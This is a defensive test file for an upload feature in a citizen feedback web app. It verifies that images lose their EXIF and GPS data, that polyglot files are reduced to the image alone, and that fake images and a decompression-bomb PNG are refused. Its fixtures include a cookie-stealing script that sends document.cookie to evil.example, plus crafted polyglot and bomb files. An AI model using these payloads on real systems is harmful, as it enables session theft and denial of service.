/**
 * Photos keep no hidden data (outside review, finding 2): a JPEG from a phone carries EXIF with the GPS position of
 * where it was taken, the camera's make and more; a polyglot is an image that is also a web page or a ZIP archive.
 * What is stored, and what the citizen and staff download, is the image re-encoded: pixels only, turned upright.
 * A file that claims to be an image by its first bytes but does not decode is refused with the existing message.
 * Real action and loaders, real SQLite, real files under the test's DATA_DIR.
 */
import { eq, sql } from 'drizzle-orm';
import { readFileSync } from 'node:fs';
import { crc32 } from 'node:zlib';
import path from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { attachments, items } from '../../db/schema';
import { getConfig } from '~/platform/config.server';
import * as feedbackNew from '~/routes/feedback.new';
import * as staffAttachment from '~/routes/staff.items.$id.attachments.$attachmentId';
import * as trackAttachment from '~/routes/track.$code.attachments.$id';
import { BASE, CookieJar, getRequest, routeArgs, run, solvedChallenge } from '../support/http';
import { signInAs } from '../support/staff';
import { useTestDatabase } from '../support/test-db';
import { codeOf } from '../support/tracking-page';

const { db } = useTestDatabase();

const MARKER = 'DidehbanTestPhone-SN-4711';
/** The EXIF tag that points at the GPS fields, in either byte order. */
const GPS_POINTER = [Buffer.from([0x88, 0x25]), Buffer.from([0x25, 0x88])];

/** A phone photo: 64×48 pixels stored sideways (orientation 6), with the camera's make and a GPS position in EXIF. */
async function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#c83' } })
    .jpeg()
    .withExif({
      IFD0: { Make: MARKER, Model: 'X1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '35/1 41/1 21/1', GPSLongitudeRef: 'E', GPSLongitude: '51/1 23/1 20/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

const HTML = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
const ZIP = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), Buffer.from('evil.js'), Buffer.from('alert(1)')]);

let serial = 0;
function form(): Record<string, string> {
  serial++;
  const center = db().select({ id: sql<number>`min(id)` }).from(sql`centers`).get()!.id;
  return {
    kind: 'complaint',
    centerId: String(center),
    subject: 'رمپ شکسته',
    body: 'رمپ ورودی مرکز شکسته است و ویلچر نمی‌تواند وارد شود؛ عکس پیوست است.',
    name: '',
    mobile: `0936${String(2000000 + serial)}`,
    email: '',
    nationalCode: '',
    consent: 'on',
    website: '',
    ...solvedChallenge(),
  };
}

async function submit(files: { bytes: Buffer; name: string; type: string }[], jar: CookieJar): Promise<Response> {
  const body = new FormData();
  for (const [name, value] of Object.entries(form())) body.append(name, value);
  for (const file of files) body.append('attachments', new File([new Uint8Array(file.bytes)], file.name, { type: file.type }));
  const request = new Request(`${BASE}/feedback/new`, { method: 'POST', headers: { Cookie: jar.header() }, body });
  return jar.take(await run(() => feedbackNew.action({ request, params: {}, context: {} })));
}

/** Every copy of the attachments of the item `code`: the stored files, the citizen's and an officer's downloads. */
async function copiesOf(code: string, jar: CookieJar): Promise<{ stored: Buffer; citizen: Buffer; staff: Buffer; mimeType: string }[]> {
  const item = db().select().from(items).where(eq(items.trackingCode, code)).get()!;
  const rows = db().select().from(attachments).where(eq(attachments.itemId, item.id)).all();
  const officer = await signInAs('national');
  return Promise.all(
    rows.map(async (row) => {
      const citizen = await run(() => trackAttachment.loader(routeArgs(getRequest(`/track/${code}/attachments/${row.id}`, jar), { code, id: String(row.id) })));
      const staff = await run(() =>
        staffAttachment.loader(routeArgs(getRequest(`/staff/items/${item.id}/attachments/${row.id}`, officer), { id: String(item.id), attachmentId: String(row.id) })),
      );
      expect(citizen.status).toBe(200);
      expect(staff.status).toBe(200);
      return {
        stored: readFileSync(path.join(getConfig().dataDir, 'attachments', row.storedName)),
        citizen: Buffer.from(await citizen.arrayBuffer()),
        staff: Buffer.from(await staff.arrayBuffer()),
        mimeType: row.mimeType,
      };
    }),
  );
}

describe('an uploaded phone photo', () => {
  it('is stored and served without its EXIF: no GPS position, no camera make, turned upright', async () => {
    const photo = await phonePhoto();
    // The photo as made really carries what must go.
    const sent = await sharp(photo).metadata();
    expect(sent.exif?.includes(MARKER)).toBe(true);
    expect(GPS_POINTER.some((pointer) => sent.exif!.includes(pointer))).toBe(true);
    expect(sent.orientation).toBe(6);

    const jar = new CookieJar();
    const code = codeOf(await submit([{ bytes: photo, name: 'IMG_2041.jpg', type: 'image/jpeg' }], jar));
    const [copy] = await copiesOf(code, jar);
    expect(copy!.mimeType).toBe('image/jpeg');
    for (const bytes of [copy!.stored, copy!.citizen, copy!.staff]) {
      const kept = await sharp(bytes).metadata();
      expect(kept.format).toBe('jpeg');
      expect(kept.exif).toBeUndefined();
      expect(kept.xmp).toBeUndefined();
      expect(kept.orientation).toBeUndefined();
      expect(bytes.includes('Exif\0\0')).toBe(false);
      expect(bytes.includes(MARKER)).toBe(false);
      // The pixels were turned as the tag said, since the tag is gone.
      expect([kept.width, kept.height]).toEqual([48, 64]);
    }
  });

  it('a PNG keeps no metadata either', async () => {
    const png = await sharp({ create: { width: 10, height: 10, channels: 4, background: '#08f' } }).png().withExif({ IFD0: { Make: MARKER } }).toBuffer();
    expect(png.includes(MARKER)).toBe(true);
    const jar = new CookieJar();
    const code = codeOf(await submit([{ bytes: png, name: 'screen.png', type: 'image/png' }], jar));
    const [copy] = await copiesOf(code, jar);
    for (const bytes of [copy!.stored, copy!.citizen, copy!.staff]) {
      expect(bytes.includes(MARKER)).toBe(false);
      expect((await sharp(bytes).metadata()).format).toBe('png');
    }
  });
});

describe('a polyglot', () => {
  it('a JPEG that is also a web page and a ZIP archive is stored as the JPEG alone', async () => {
    const image = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#393' } }).jpeg().toBuffer();
    const polyglot = Buffer.concat([image, Buffer.from(HTML), ZIP]);
    const jar = new CookieJar();
    const code = codeOf(await submit([{ bytes: polyglot, name: 'photo.jpg', type: 'image/jpeg' }], jar));
    const [copy] = await copiesOf(code, jar);
    for (const bytes of [copy!.stored, copy!.citizen, copy!.staff]) {
      expect(bytes.includes('<script')).toBe(false);
      expect(bytes.includes('PK\x03\x04')).toBe(false);
      expect((await sharp(bytes).metadata()).format).toBe('jpeg');
    }
  });

  it('a file with a JPEG’s first bytes that does not decode is refused with the existing message, nothing stored', async () => {
    const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]);
    const before = db().select({ n: sql<number>`count(*)` }).from(items).get()!.n;
    const response = await submit([{ bytes: fake, name: 'photo.jpg', type: 'image/jpeg' }], new CookieJar());
    expect(response.status).toBe(400);
    expect((await response.json()).errors).toEqual({ attachments: 'errors.attachment_type' });
    expect(db().select({ n: sql<number>`count(*)` }).from(items).get()!.n).toBe(before);
  });

  it('a PNG that claims to be a JPEG by its first bytes is refused', async () => {
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } }).png().toBuffer();
    const lying = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), png]);
    const response = await submit([{ bytes: lying, name: 'x.jpg', type: 'image/jpeg' }], new CookieJar());
    expect(response.status).toBe(400);
    expect((await response.json()).errors).toEqual({ attachments: 'errors.attachment_type' });
  });

  it('a decompression bomb (a tiny PNG claiming 100,000 × 100,000 pixels) is refused without being decoded', async () => {
    const png = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#000' } }).png().toBuffer();
    // IHDR: width and height at bytes 16–23, its CRC over type and data at 29–32.
    const bomb = Buffer.from(png);
    bomb.writeUInt32BE(100_000, 16);
    bomb.writeUInt32BE(100_000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    expect((await sharp(bomb, { limitInputPixels: false }).metadata()).width).toBe(100_000);
    const response = await submit([{ bytes: bomb, name: 'bomb.png', type: 'image/png' }], new CookieJar());
    expect(response.status).toBe(400);
    expect((await response.json()).errors).toEqual({ attachments: 'errors.attachment_type' });
  });
});
